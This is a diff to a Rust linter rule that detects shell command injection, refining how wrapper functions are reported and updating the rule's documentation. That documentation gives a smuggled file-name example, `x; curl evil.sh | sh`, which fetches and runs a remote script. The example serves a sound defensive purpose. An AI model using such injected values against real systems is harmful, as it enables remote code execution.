@@ -414,15 +414,41 @@ fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
         .with_taint(&taint);
 }
 
-/// `def run(cmd): os.system(cmd)`, `const sh = (cmd) => execSync(cmd)`: a wrapper that runs the
-/// whole command its caller gives it builds nothing; the callers build the command, and one
-/// passing request data is reported where it does (the cross-function summaries carry the
-/// parameter to the shell). A command the function builds from its parameter
-/// (`"curator --index " + name`) is still reported here.
+/// `def _run(cmd): os.system(cmd)`, a nested `get(cmd)` helper, `const sh = (cmd) =>
+/// execSync(cmd)` in a release script: a private wrapper that runs the whole command its caller
+/// gives it builds nothing; the callers in its own file build the command, and one passing
+/// request data is reported at the wrapper with the path (the cross-function summaries carry the
+/// parameter to the shell). A command the function builds from its parameter (`"curator
+/// --index " + name`), and a public function others may call with anything, are still reported.
 fn passes_parameter_on(checker: &Checker, cmd: Node, taint: &Taint) -> bool {
-    !taint.user
-        && cmd.kind_str() == "identifier"
-        && checker.source.get(taint.origin.clone()) == Some(checker.text(cmd))
+    if taint.user
+        || cmd.kind_str() != "identifier"
+        || checker.source.get(taint.origin.clone()) != Some(checker.text(cmd))
+    {
+        return false;
+    }
+    if checker.class == ba_app::FileClass::Script {
+        return true;
+    }
+    let is_function = |n: Node| {
+        matches!(n.kind_str(), "function_definition" | "lambda")
+            || ba_analysis::routes::is_js_function(n.kind_str())
+    };
+    let mut node = cmd;
+    let mut own: Option<Node> = None;
+    while let Some(parent) = node.parent() {
+        node = parent;
+        if is_function(node) {
+            if own.is_some() {
+                // Nested in another function: only that function can call it.
+                return true;
+            }
+            own = Some(node);
+        }
+    }
+    // A module's private helper (`_run`).
+    own.and_then(|f| f.field("name"))
+        .is_some_and(|n| checker.text(n).starts_with('_'))
 }
 
 const DOCS: &str = r#"## What it does
@@ -432,9 +458,10 @@ Flags shell commands assembled from data the code does not fix: `os.system`, `os
 own parameters. `spawn`/`execFile` with `shell: true` are judged the same way; without a shell
 they are reported only when the client chooses the program, or the script of `sh -c`. Commands
 made only of constants, or whose variable parts pass through `shlex.quote` or `parseInt`, are
-not reported; neither is `subprocess.run([...])` without a shell. A wrapper that runs the whole
-command its caller hands it (`def run(cmd): os.system(cmd)`) is judged by its callers: it is
-reported, with the path, when one of them passes request data.
+not reported; neither is `subprocess.run([...])` without a shell. A private wrapper that runs
+the whole command its caller hands it (`def _run(cmd): os.system(cmd)`, a helper nested in
+another function, any function in a script) is judged by its callers: it is reported, with the
+path, when one of them passes request data.
 
 ## Why is this bad?
 A shell interprets `;`, `|`, `$(…)` and backticks. A file name like `x; curl evil.sh | sh` turns
